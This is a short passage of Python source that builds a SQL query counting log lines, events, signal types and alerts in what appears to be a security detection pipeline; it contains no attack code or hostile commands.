    "run_counters": _ALERTS.replace("fe AS (SELECT", f"{_LOTL}, fe AS (SELECT", 1) + f" SELECT 'lines' AS stage, 'all' AS kind, count(*) AS n FROM sec UNION ALL SELECT 'events', 'all', count(*) FROM sec UNION ALL SELECT 'signals', signal_type, count(*) FROM sg GROUP BY signal_type UNION ALL SELECT 'alerts', {_SEVERITY}, count(*) FROM al WHERE score >= 0.3 GROUP BY ALL",
}
